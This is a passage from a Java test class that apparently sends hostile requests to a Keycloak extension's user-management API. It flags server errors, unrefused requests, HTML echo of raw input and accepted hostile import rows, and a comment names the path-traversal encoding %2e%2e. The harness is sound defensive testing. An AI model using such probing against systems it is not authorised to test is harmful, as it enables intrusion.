                "lockout.failure_mode",
                "lockout.lockout_email");
    }

    // ---------------------------------------------------------------- sending and checking

    private static String key(BodyEndpoint endpoint) {
        return endpoint.method() + " " + endpoint.path().replace("/users/" + targetId, "/users/{target}");
    }

    private static String path(String path) {
        return path.replace("{managed}", managed);
    }

    private static byte[] json(Object body) {
        try {
            return JSON.writeValueAsBytes(body);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void sendJson(
            String kind, BodyEndpoint endpoint, Map<String, Object> body, Expect expect, String raw) {
        send(
                kind,
                endpoint.method(),
                path(endpoint.path()),
                endpoint.token().get(),
                "application/json",
                json(body),
                expect,
                raw);
    }

    private static void send(
            String kind,
            String method,
            String path,
            String token,
            String contentType,
            byte[] body,
            Expect expect,
            String raw) {
        REQUESTS.computeIfAbsent(kind, k -> new AtomicInteger()).incrementAndGet();
        String what = kind + ": " + method + " " + abbreviate(path, 120)
                + (body == null ? "" : " " + abbreviate(new String(body, StandardCharsets.UTF_8), 160))
                + (contentType == null || contentType.equals("application/json") ? "" : " as " + contentType);
        HttpResponse<String> response;
        try {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(server.apiUrl(tenant) + path))
                    .timeout(Duration.ofSeconds(60))
                    .header("Accept", "application/json, text/html");
            if (token != null) {
                request.header("Authorization", "Bearer " + token);
            }
            if (contentType != null && !contentType.isEmpty()) {
                request.header("Content-Type", contentType);
            }
            request.method(
                    method,
                    body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
            response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException | IllegalArgumentException e) {
            VIOLATIONS.add(what + " -> no answer: " + e);
            return;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
        int status = response.statusCode();
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (status >= 500) {
            VIOLATIONS.add(what + " -> " + status + " " + abbreviate(response.body(), 200));
        } else if (expect == Expect.REFUSE && (status < 400 || status >= 500)) {
            VIOLATIONS.add(what + " -> " + status + ", not refused: " + abbreviate(response.body(), 200));
        } else if (status >= 400
                && !type.startsWith("application/problem+json")
                && !refusedByKeycloaksPathCheck(status, response.body())) {
            VIOLATIONS.add(what + " -> " + status + " as '" + type + "', not problem+json");
        }
        if (type.startsWith("text/html")
                && raw != null
                && raw.length() > 2
                && response.body().contains(raw)) {
            VIOLATIONS.add(what + " -> the raw input is echoed into HTML");
        }
        if (status == 200
                && path.startsWith("/users/import")
                && !response.body().contains("\"imported\":0")) {
            VIOLATIONS.add(what + " -> imported a hostile row: " + abbreviate(response.body(), 200));
        }
    }

    private static String abbreviate(String text, int max) {
        String flat = text.replace("\n", "\\n").replace("\r", "\\r");
        return flat.length() <= max ? flat : flat.substring(0, max) + "...(" + flat.length() + " chars)";
    }

    /**
     * Keycloak refuses a path that is not normalized ({@code %2e%2e}) or holds {@code ;} with its own 400 before any
     * resource (ours included) is matched: a refusal in its own JSON, not a problem of ours, and no way for an
     * extension to word it (see docs/security.md).
     */
    private static boolean refusedByKeycloaksPathCheck(int status, String body) {
        return status == 400
                && (body.contains("\"error\":\"missingNormalization\"")
                        || body.contains("\"error\":\"invalidCharacter\""));
    }
}
